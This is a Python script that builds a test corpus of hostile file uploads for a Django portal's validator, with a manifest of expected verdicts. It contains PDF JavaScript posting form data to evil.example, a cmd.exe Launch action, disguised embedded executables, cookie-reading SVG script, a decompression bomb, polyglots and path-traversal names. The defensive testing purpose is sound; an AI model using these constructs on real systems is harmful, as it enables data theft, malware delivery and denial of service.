"""Writes the hostile upload corpus (the files next to this script and manifest.json).

Run from the checkout after changing it: `.venv/bin/python tests/foreign_affairs/documents/corpus/make_corpus.py`.
The files are built byte by byte (PDFs by hand, so that each carries exactly the construct it tests),
the same bytes on every run. manifest.json lists the uploads made from them: the file, the name it is
uploaded under, whether the portal must accept or refuse it (and with which ValidationError code), why,
and where the answer over HTTP differs because Django's multipart parser has already cleaned the name.

Nothing here is live malware: the "executables" are inert MZ headers, the scripts call alert(). The EICAR
test string is deliberately absent (antivirus on a developer's machine would quarantine the file); the
virus-scan tests build it at run time.
"""

import io
import json
import re
import struct
import zipfile
import zlib
from pathlib import Path

from PIL import Image

HERE = Path(__file__).resolve().parent
FIXED_TIME = (2026, 1, 1, 0, 0, 0)

# PDFs ----------------------------------------------------------------------------------------------------


def pdf(objects: dict, *, packed=(), hidden=(), trailer: bytes = b"", objstm_filter=None) -> bytes:
    """A PDF of `objects` ({number: body}; a body is the object's bytes, or (dictionary entries, data)
    for a stream). Object 1 is the catalog. Numbers in `packed` go compressed into one object stream,
    and an xref stream replaces the xref table; numbers in `hidden` are written but listed as free."""
    out = bytearray(b"%PDF-1.7\n%\xe2\xe3\xcf\xd3\n")
    offsets = {}

    def body(value):
        if isinstance(value, tuple):
            entries, data = value
            return b"<< " + entries + b" /Length %d >>\nstream\n" % len(data) + data + b"\nendstream"
        return value

    top = max(objects)
    packed = sorted(packed)
    for number in sorted(objects):
        if number not in packed:
            offsets[number] = len(out)
            out += b"%d 0 obj\n" % number + body(objects[number]) + b"\nendobj\n"
    if not packed:
        xref = len(out)
        out += b"xref\n0 %d\n0000000000 65535 f \n" % (top + 1)
        for number in range(1, top + 1):
            listed = number in offsets and number not in hidden
            out += b"%010d 00000 n \n" % offsets[number] if listed else b"0000000000 65535 f \n"
        out += b"trailer\n<< /Size %d /Root 1 0 R " % (top + 1) + trailer + b" >>\n"
        return bytes(out + b"startxref\n%d\n%%%%EOF\n" % xref)
    stream_number, xref_number = top + 1, top + 2
    header, blob = [], bytearray()
    for number in packed:
        header.append(b"%d %d" % (number, len(blob)))
        blob += objects[number] + b"\n"
    head = b" ".join(header) + b"\n"
    data, filters = (
        objstm_filter(head + bytes(blob))
        if objstm_filter
        else (
            zlib.compress(head + bytes(blob), 9),
            b"/FlateDecode",
        )
    )
    offsets[stream_number] = len(out)
    entries = b"/Type /ObjStm /N %d /First %d /Filter %s" % (len(packed), len(head), filters)
    out += b"%d 0 obj\n" % stream_number + body((entries, data)) + b"\nendobj\n"
    offsets[xref_number] = len(out)
    rows = bytearray(b"\x00\x00\x00\x00\x00\xff\xff")
    for number in range(1, xref_number + 1):
        if number in packed:
            rows += b"\x02" + stream_number.to_bytes(4, "big") + packed.index(number).to_bytes(2, "big")
        elif number in offsets:
            rows += b"\x01" + offsets[number].to_bytes(4, "big") + b"\x00\x00"
        else:
            rows += b"\x00\x00\x00\x00\x00\xff\xff"
    entries = b"/Type /XRef /Size %d /W [1 4 2] /Root 1 0 R " % (xref_number + 1) + trailer
    out += b"%d 0 obj\n" % xref_number + body((entries, bytes(rows))) + b"\nendobj\n"
    return bytes(out + b"startxref\n%d\n%%%%EOF\n" % offsets[xref_number])


def page(catalog: bytes = b"", page_entries: bytes = b"", content: bytes = b"", **extra) -> dict:
    """The objects of a one-page letter (1 catalog, 2 pages, 3 page, 4 content, 5 font) plus `extra`
    (`o6=...` is object 6)."""
    text = content or b"BT /F1 24 Tf 72 760 Td (Invitation letter) Tj ET"
    objects = {
        1: b"<< /Type /Catalog /Pages 2 0 R " + catalog + b" >>",
        2: b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
        3: b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] /Contents 4 0 R "
        b"/Resources << /Font << /F1 5 0 R >> >> " + page_entries + b" >>",
        4: (b"", text),
        5: b"<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica >>",
    }
    objects.update({int(key[1:]): value for key, value in extra.items()})
    return objects


MZ = (
    b"MZ\x90\x00\x03\x00\x00\x00\x04\x00\x00\x00\xff\xff\x00\x00\xb8" + b"\x00" * 43 + b"\x40\x00\x00\x00"
    b"\x0e\x1f\xba\x0e\x00\xb4\x09\xcd\x21\xb8\x01\x4c\xcd\x21"
    b"This program cannot be run in DOS mode.\r\r\n$\x00\x00\x00PE\x00\x00L\x01"
)
JS_ALERT = b"(app.alert\\(document.title\\))"


def incremental_update(original: bytes, *objects: tuple[int, bytes], size: int) -> bytes:
    """`original` with an incremental update appended that replaces or adds `objects`."""
    previous = int(re.findall(rb"startxref\s+(\d+)", original)[-1])
    out = bytearray(original)
    entries = []
    for number, value in objects:
        entries.append((number, len(out)))
        out += b"%d 0 obj\n" % number + value + b"\nendobj\n"
    xref = len(out)
    out += b"xref\n0 1\n0000000000 65535 f \n"
    for number, offset in entries:
        out += b"%d 1\n%010d 00000 n \n" % (number, offset)
    out += b"trailer\n<< /Size %d /Root 1 0 R /Prev %d >>\nstartxref\n%d\n%%%%EOF\n" % (size, previous, xref)
    return bytes(out)


def encrypted_pdf() -> bytes:
    """A real RC4-128 encrypted PDF (user password "secret"). pypdf puts a random second /ID into the
    trailer; the key derives from the first one only, so the second is fixed for reproducible bytes."""
    from pypdf import PdfReader, PdfWriter
    from pypdf.generic import ArrayObject, ByteStringObject

    writer = PdfWriter(clone_from=PdfReader(io.BytesIO(pdf(page()))))
    writer._ID = ArrayObject([ByteStringObject(b"henan-portal-id"), ByteStringObject(b"henan-portal-id")])
    writer.encrypt("secret", algorithm="RC4-128")
    buffer = io.BytesIO()
    writer.write(buffer)
    return re.sub(rb"(/ID \[ <[0-9a-f]+> <)[0-9a-f]+>", rb"\g<1>" + b"00" * 16 + b">", buffer.getvalue())


def reportlab_pdf() -> bytes:
    """A compressed PDF as a real producer writes it (ReportLab, invariant mode: no dates, fixed /ID)."""
    from reportlab.lib.pagesizes import A4
    from reportlab.pdfgen import canvas

    buffer = io.BytesIO()
    sheet = canvas.Canvas(buffer, pagesize=A4, invariant=1)
    sheet.setTitle("Agenda")
    sheet.drawString(72, 760, "Agenda of the delegation visit, Zhengzhou")
    sheet.linkURL("https://www.example.gov.cn/", (72, 740, 300, 755))
    sheet.showPage()
    sheet.drawString(72, 760, "Page two")
    sheet.save()
    return buffer.getvalue()


def objstm_bomb(data: bytes) -> tuple[bytes, bytes]:
    """Object stream data padded to 80 MB of spaces, compressed twice: 268 bytes in the file."""
    return zlib.compress(zlib.compress(data + b" " * 80_000_000, 9), 9), b"[/FlateDecode /FlateDecode]"


# Images and other formats --------------------------------------------------------------------------------


def jpeg(size=(64, 48), **options) -> bytes:
    image = Image.linear_gradient("L").resize(size).convert("RGB")
    buffer = io.BytesIO()
    image.save(buffer, format="JPEG", quality=80, **options)
    return buffer.getvalue()


def png(size=(64, 48)) -> bytes:
    image = Image.linear_gradient("L").resize(size)
    buffer = io.BytesIO()
    image.save(buffer, format="PNG")
    return buffer.getvalue()


def png_chunk(kind: bytes, data: bytes) -> bytes:
    return struct.pack(">I", len(data)) + kind + data + struct.pack(">I", zlib.crc32(kind + data))


def png_with_chunk(kind: bytes, data: bytes) -> bytes:
    """A PNG with one more chunk before IEND."""
    good = png()
    return good[:-12] + png_chunk(kind, data) + good[-12:]


def jpeg_with_comment(comment: bytes) -> bytes:
    """A JPEG with a COM segment right after SOI."""
    good = jpeg()
    return good[:2] + b"\xff\xfe" + struct.pack(">H", len(comment) + 2) + comment + good[2:]


def jpeg_claiming(width: int, height: int) -> bytes:
    """A small JPEG whose frame header claims `width` x `height` pixels."""
    good = bytearray(jpeg())
    sof = good.index(b"\xff\xc0")
    good[sof + 5 : sof + 9] = struct.pack(">HH", height, width)
    return bytes(good)


def png_claiming(width: int, height: int) -> bytes:
    """A PNG header claiming `width` x `height` pixels, with one tiny (valid) compressed row."""
    header = struct.pack(">IIBBBBB", width, height, 8, 0, 0, 0, 0)
    return (
        b"\x89PNG\r\n\x1a\n"
        + png_chunk(b"IHDR", header)
        + png_chunk(b"IDAT", zlib.compress(b"\x00" * 64))
        + png_chunk(b"IEND", b"")
    )


def zip_archive(files: dict[str, bytes]) -> bytes:
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", zipfile.ZIP_DEFLATED) as archive:
        for name, data in files.items():
            archive.writestr(zipfile.ZipInfo(name, FIXED_TIME), data)
    return buffer.getvalue()


def docx() -> bytes:
    """A minimal Word document (Office Open XML is a ZIP)."""
    return zip_archive(
        {
            "[Content_Types].xml": b'<?xml version="1.0"?><Types xmlns="http://schemas.openxmlformats.org/'
            b'package/2006/content-types"><Default Extension="xml" ContentType="application/xml"/>'
            b'<Override PartName="/word/document.xml" ContentType="application/vnd.openxmlformats-'
            b'officedocument.wordprocessingml.document.main+xml"/></Types>',
            "word/document.xml": b'<?xml version="1.0"?><w:document xmlns:w="http://schemas.openxmlformats'
            b'.org/wordprocessingml/2006/main"><w:body><w:p><w:r><w:t>Invitation</w:t></w:r></w:p>'
            b"</w:body></w:document>",
        }
    )


def gif() -> bytes:
    buffer = io.BytesIO()
    Image.new("P", (8, 8), 1).save(buffer, format="GIF")
    return buffer.getvalue()


HTML = b"<!DOCTYPE html><html><body><script>alert(document.domain)</script></body></html>"
SVG = (
    b'<?xml version="1.0"?><svg xmlns="http://www.w3.org/2000/svg" width="10" height="10" '
    b'onload="alert(1)"><script>alert(document.cookie)</script></svg>'
)
PAYLOAD_ZIP = zip_archive({"readme.txt": b"hidden archive", "run.bat": b"@echo off\r\nstart calc.exe\r\n"})

# The corpus ----------------------------------------------------------------------------------------------

GOOD_PDF = pdf(page())


def files() -> dict[str, bytes]:
    """{file name: content} of every file of the corpus."""
    return {
        # Good files: must be accepted.
        "good.pdf": GOOD_PDF,
        "good_object_streams.pdf": pdf(page(), packed=(1, 2, 3, 5)),
        "good_reportlab.pdf": reportlab_pdf(),
        "good_near_misses.pdf": pdf(
            page(
                catalog=b"/AcroForm << /Fields [7 0 R] /DA (/Helv 0 Tf 0 g) >>",
                page_entries=b"/Annots [6 0 R 7 0 R]",
                content=b"BT /F1 12 Tf 72 760 Td (About JavaScript, /JS, /Launch and /XFA) Tj ET",
                o6=b"<< /Type /Annot /Subtype /Link /Rect [72 700 300 720] /Border [0 0 0] "
                b"/A << /S /URI /URI (https://www.example.gov.cn/) >> >>",
                o7=b"<< /Type /Annot /Subtype /Widget /FT /Tx /T (name) /Rect [72 600 300 620] /P 3 0 R >>",
                o8=b"<< /Title (Notes on JavaScript) /Producer (JSans Writer) >>",
            ),
            trailer=b"/Info 8 0 R",
        ),
        "good.jpg": jpeg(),
        "good_progressive.jpg": jpeg(progressive=True),
        "good.png": png(),
        "good_text_chunk.png": png_with_chunk(b"tEXt", b"Comment\x00Scanned at the office, 2026-01-05"),
        # Not a PDF, JPEG or PNG, whatever the name says.
        "mz_executable.pdf": MZ + b"\x00" * 64,
        "html_page.png": HTML,
        "script.svg": SVG,
        "archive.zip": PAYLOAD_ZIP,
        "letter.docx": docx(),
        "animation.gif": gif(),
        "html_before_pdf.pdf": HTML + b"\n" + GOOD_PDF,
        # Polyglots: a valid PDF, JPEG or PNG that is also something else.
        "jpeg_html_comment.jpg": jpeg_with_comment(HTML),
        "png_script_text_chunk.png": png_with_chunk(b"tEXt", b"Comment\x00" + HTML),
        "pdf_zip_polyglot.pdf": GOOD_PDF + PAYLOAD_ZIP,
        "jpeg_zip_polyglot.jpg": jpeg() + PAYLOAD_ZIP,
        # Active content in PDFs.
        "pdf_openaction_javascript.pdf": pdf(
            page(catalog=b"/OpenAction << /S /JavaScript /JS " + JS_ALERT + b" >>")
        ),
        "pdf_annotation_javascript.pdf": pdf(
            page(
                page_entries=b"/Annots [6 0 R]",
                o6=b"<< /Type /Annot /Subtype /Link /Rect [72 700 300 720] /Border [0 0 0] "
                b"/A << /S /JavaScript /JS 7 0 R >> >>",
                o7=(b"", b"this.submitForm('https://evil.example/collect');"),
            )
        ),
        "pdf_names_tree_javascript.pdf": pdf(
            page(
                catalog=b"/Names << /JavaScript << /Names [(init) 6 0 R] >> >>",
                o6=b"<< /S /JavaScript /JS (app.launchURL\\('https://evil.example/'\\)) >>",
            )
        ),
        "pdf_page_open_javascript.pdf": pdf(
            page(page_entries=b"/AA << /O << /S /JavaScript /JS " + JS_ALERT + b" >> >>")
        ),
        "pdf_hex_escaped_javascript.pdf": pdf(
            page(catalog=b"/OpenAction << /S /J#61vaScript /J#53 " + JS_ALERT + b" >>")
        ),
        "pdf_javascript_in_object_stream.pdf": pdf(
            page(catalog=b"/OpenAction 6 0 R", o6=b"<< /S /JavaScript /JS " + JS_ALERT + b" >>"),
            packed=(1, 6),
        ),
        "pdf_javascript_incremental_update.pdf": incremental_update(
            GOOD_PDF,
            (1, b"<< /Type /Catalog /Pages 2 0 R /OpenAction 6 0 R >>"),
            (6, b"<< /S /JavaScript /JS " + JS_ALERT + b" >>"),
            size=7,
        ),
        "pdf_javascript_missing_from_xref.pdf": pdf(
            page(catalog=b"/OpenAction 6 0 R", o6=b"<< /S /JavaScript /JS " + JS_ALERT + b" >>"), hidden=(6,)
        ),
        "pdf_launch.pdf": pdf(
            page(
                catalog=b"/OpenAction << /S /Launch /F (calc.exe) /Win << /F (cmd.exe) /P (/c calc.exe) >> >>"
            )
        ),
        "pdf_embedded_executable.pdf": pdf(
            page(
                catalog=b"/Names << /EmbeddedFiles << /Names [(update.exe) 6 0 R] >> >>",
                o6=b"<< /Type /Filespec /F (update.exe) /UF (update.exe) /EF << /F 7 0 R >> >>",
                o7=(b"/Type /EmbeddedFile /Subtype /application#2Fx-msdownload", MZ),
            )
        ),
        "pdf_file_attachment_annotation.pdf": pdf(
            page(
                page_entries=b"/Annots [6 0 R]",
                o6=b"<< /Type /Annot /Subtype /FileAttachment /Rect [72 700 90 720] /FS 7 0 R /Contents (Read me) >>",
                o7=b"<< /Type /Filespec /F (invoice.exe) /EF << /F 8 0 R >> >>",
                o8=(b"", MZ),
            )
        ),
        "pdf_richmedia.pdf": pdf(
            page(
                page_entries=b"/Annots [6 0 R]",
                o6=b"<< /Type /Annot /Subtype /RichMedia /Rect [72 500 372 700] "
                b"/RichMediaContent << /Configurations [] >> >>",
            )
        ),
        "pdf_xfa_form.pdf": pdf(
            page(
                catalog=b"/AcroForm << /Fields [] /XFA 6 0 R >>",
                o6=(
                    b"",
                    b'<xdp:xdp xmlns:xdp="http://ns.adobe.com/xdp/"><template><subform>'
                    b'<event activity="initialize"><script contentType="application/x-javascript">'
                    b"xfa.host.messageBox('XFA')</script></event></subform></template></xdp:xdp>",
                ),
            )
        ),
        # Bombs.
        "png_huge_dimensions.png": png_claiming(100_000, 100_000),
        "jpeg_huge_dimensions.jpg": jpeg_claiming(65_000, 65_000),
        "pdf_object_stream_bomb.pdf": pdf(page(), packed=(1,), objstm_filter=objstm_bomb),
        "pdf_deep_nesting.pdf": pdf(page(catalog=b"/Nested " + b"[" * 5000 + b"]" * 5000)),
        # Damaged.
        "pdf_truncated.pdf": GOOD_PDF[: len(GOOD_PDF) // 2],
        "pdf_header_only.pdf": b"%PDF-1.7\nthis is not really a pdf\n",
        "pdf_no_pages.pdf": pdf(
            {1: b"<< /Type /Catalog /Pages 2 0 R >>", 2: b"<< /Type /Pages /Kids [] /Count 0 >>"}
        ),
        "jpeg_truncated.jpg": jpeg((320, 240))[:-600],
        "png_truncated.png": png()[:-40],
        "png_bad_checksum.png": png()[:-16] + b"\x00\x00\x00\x00" + png()[-12:],
        "pdf_encrypted.pdf": encrypted_pdf(),
        "empty.pdf": b"",
    }


def case(file, expect, why, *, name=None, code=None, http=None) -> dict:
    entry = {"file": file, "name": name or file, "expect": expect, "why": why}
    if code:
        entry["code"] = code
    if http:
        entry["http"] = http
    return entry


ACCEPTED, REFUSED = "accepted", "refused"
ACTIVE = "pdf_active_content"


def cases() -> list[dict]:
    """Every upload of the corpus: file, upload name, expected outcome and why."""
    return [
        case("good.pdf", ACCEPTED, "a plain one-page PDF"),
        case(
            "good_object_streams.pdf",
            ACCEPTED,
            "PDF 1.5 with compressed object streams, as most producers write",
        ),
        case("good_reportlab.pdf", ACCEPTED, "two pages from a real producer, compressed, with a web link"),
        case(
            "good_near_misses.pdf",
            ACCEPTED,
            "a web link, an ordinary form field, a font called JSans, JavaScript named only in text: not active",
        ),
        case("good.jpg", ACCEPTED, "a plain JPEG", name="photo.JPG"),
        case("good_progressive.jpg", ACCEPTED, "a progressive JPEG", name="scan.jpeg"),
        case("good.png", ACCEPTED, "a plain PNG"),
        case("good_text_chunk.png", ACCEPTED, "a PNG with an ordinary text comment"),
        case("good.pdf", ACCEPTED, "Chinese names are kept as data", name="邀请函（河南自贸区）.pdf"),
        case("good.pdf", ACCEPTED, "decomposed Unicode is normalised to NFC", name="cafe\u0301.pdf"),
        case(
            "good.pdf",
            ACCEPTED,
            "a Windows device name is only data: the file gets a random name",
            name="CON.pdf",
        ),
        # Names.
        case(
            "good.pdf",
            REFUSED,
            "path traversal in the name",
            name="../../etc/passwd.pdf",
            code="file_name",
            http={
                "expect": ACCEPTED,
                "original_name": "passwd.pdf",
                "why": "Django's parser keeps the last part",
            },
        ),
        case(
            "good.pdf",
            REFUSED,
            "NUL byte in the name",
            name="invitation\x00.php.pdf",
            code="file_name",
            http={
                "expect": ACCEPTED,
                "original_name": "invitation.php.pdf",
                "why": "Django's parser drops unprintable characters",
            },
        ),
        case("good.pdf", REFUSED, "a name of 254 characters", name="a" * 250 + ".pdf", code="file_name"),
        case(
            "good.jpg",
            REFUSED,
            "right-to-left override: shows as scanexe.jpg, is scan.exe",
            name="scan\u202egpj.exe",
            code="file_name",
            http={
                "expect": REFUSED,
                "code": "extension_mismatch",
                "why": "Django's parser drops the override; the name then ends in .exe",
            },
        ),
        case(
            "good.pdf",
            REFUSED,
            "zero-width space hidden in the name",
            name="invi\u200btation.pdf",
            code="file_name",
            http={
                "expect": ACCEPTED,
                "original_name": "invitation.pdf",
                "why": "Django's parser drops unprintable characters",
            },
        ),
        case(
            "good.pdf",
            REFUSED,
            "double extension hiding an executable",
            name="invitation.pdf.exe",
            code="extension_mismatch",
        ),
        # Wrong types.
        case("mz_executable.pdf", REFUSED, "a Windows executable (MZ header) named .pdf", code="file_type"),
        case("html_page.png", REFUSED, "an HTML page with script named .png", code="file_type"),
        case("script.svg", REFUSED, "SVG is not accepted (it can carry script)", code="file_type"),
        case("script.svg", REFUSED, "SVG with script named .png", name="logo.png", code="file_type"),
        case("archive.zip", REFUSED, "a ZIP archive", code="file_type"),
        case("archive.zip", REFUSED, "a ZIP archive named .pdf", name="scan.pdf", code="file_type"),
        case("letter.docx", REFUSED, "an Office document", code="file_type"),
        case("animation.gif", REFUSED, "GIF is not accepted", code="file_type"),
        case(
            "html_before_pdf.pdf",
            REFUSED,
            "HTML first, PDF later: readers accept it, browsers sniff HTML",
            code="file_type",
        ),
        # Polyglots.
        case(
            "jpeg_html_comment.jpg",
            REFUSED,
            "a valid JPEG whose comment is an HTML page with script",
            code="hidden_markup",
        ),
        case(
            "png_script_text_chunk.png",
            REFUSED,
            "a valid PNG whose text chunk is an HTML page with script",
            code="hidden_markup",
        ),
        case(
            "pdf_zip_polyglot.pdf", REFUSED, "a valid PDF that is also a ZIP archive", code="hidden_archive"
        ),
        case(
            "jpeg_zip_polyglot.jpg",
            REFUSED,
            "a valid JPEG that is also a ZIP archive (GIFAR-style)",
            code="hidden_archive",
        ),
        # Active content in PDFs.
        case("pdf_openaction_javascript.pdf", REFUSED, "JavaScript run when the document opens", code=ACTIVE),
        case(
            "pdf_annotation_javascript.pdf",
            REFUSED,
            "JavaScript (a stream) behind a link annotation",
            code=ACTIVE,
        ),
        case(
            "pdf_names_tree_javascript.pdf",
            REFUSED,
            "document-level JavaScript in the names tree",
            code=ACTIVE,
        ),
        case(
            "pdf_page_open_javascript.pdf", REFUSED, "JavaScript in a page's additional actions", code=ACTIVE
        ),
        case(
            "pdf_hex_escaped_javascript.pdf",
            REFUSED,
            "/J#61vaScript and /J#53: names written with # escapes",
            code=ACTIVE,
        ),
        case(
            "pdf_javascript_in_object_stream.pdf",
            REFUSED,
            "OpenAction JavaScript inside a compressed object stream: not in the raw bytes",
            code=ACTIVE,
        ),
        case(
            "pdf_javascript_incremental_update.pdf",
            REFUSED,
            "a plain PDF with an incremental update that adds OpenAction JavaScript",
            code=ACTIVE,
        ),
        case(
            "pdf_javascript_missing_from_xref.pdf",
            REFUSED,
            "the JavaScript object is listed as free in the xref table; readers repair and find it",
            code=ACTIVE,
        ),
        case("pdf_launch.pdf", REFUSED, "a Launch action starting cmd.exe", code=ACTIVE),
        case(
            "pdf_embedded_executable.pdf",
            REFUSED,
            "an executable in the EmbeddedFiles names tree",
            code=ACTIVE,
        ),
        case(
            "pdf_file_attachment_annotation.pdf",
            REFUSED,
            "an executable in a file attachment annotation",
            code=ACTIVE,
        ),
        case("pdf_richmedia.pdf", REFUSED, "a RichMedia (Flash/video) annotation", code=ACTIVE),
        case("pdf_xfa_form.pdf", REFUSED, "an XFA form (with its own scripts) in the AcroForm", code=ACTIVE),
        # Bombs.
        case(
            "png_huge_dimensions.png",
            REFUSED,
            "PNG claiming 100 000 x 100 000 pixels",
            code="image_too_large",
        ),
        case(
            "jpeg_huge_dimensions.jpg",
            REFUSED,
            "JPEG claiming 65 000 x 65 000 pixels",
            code="image_too_large",
        ),
        case(
            "pdf_object_stream_bomb.pdf",
            REFUSED,
            "268 bytes of object stream that inflate to 80 MB",
            code="pdf_too_complex",
        ),
        case("pdf_deep_nesting.pdf", REFUSED, "arrays nested 5 000 deep", code="pdf_too_complex"),
        # Damaged.
        case("pdf_truncated.pdf", REFUSED, "the first half of a PDF", code="pdf_corrupt"),
        case("pdf_header_only.pdf", REFUSED, "a PDF header and text", code="pdf_corrupt"),
        case("pdf_no_pages.pdf", REFUSED, "a PDF with no pages", code="pdf_empty"),
        case(
            "jpeg_truncated.jpg",
            REFUSED,
            "a JPEG cut short (the last 600 bytes missing)",
            code="image_corrupt",
        ),
        case("png_truncated.png", REFUSED, "a PNG cut short", code="image_corrupt"),
        case("png_bad_checksum.png", REFUSED, "a PNG with a wrong chunk checksum", code="image_corrupt"),
        case("pdf_encrypted.pdf", REFUSED, "a password-protected PDF", code="pdf_encrypted"),
        case(
            "empty.pdf",
            REFUSED,
            "zero bytes",
            code="empty",
            http={
                "expect": REFUSED,
                "code": "empty",
                "why": "Django's form field refuses an empty file first",
            },
        ),
    ]


def main() -> None:
    written = files()
    for old in HERE.iterdir():
        if old.is_file() and old.suffix != ".py" and old.name not in written and old.name != "manifest.json":
            old.unlink()
    for name, content in written.items():
        (HERE / name).write_bytes(content)
    manifest = {
        "about": "Uploads of the hostile corpus; written by make_corpus.py, do not edit by hand.",
        "cases": cases(),
    }
    (HERE / "manifest.json").write_text(
        json.dumps(manifest, ensure_ascii=False, indent=1) + "\n", encoding="utf-8"
    )
    total = sum(len(content) for content in written.values())
    print(f"{len(written)} files, {total} bytes, {len(manifest['cases'])} cases")


if __name__ == "__main__":
    main()
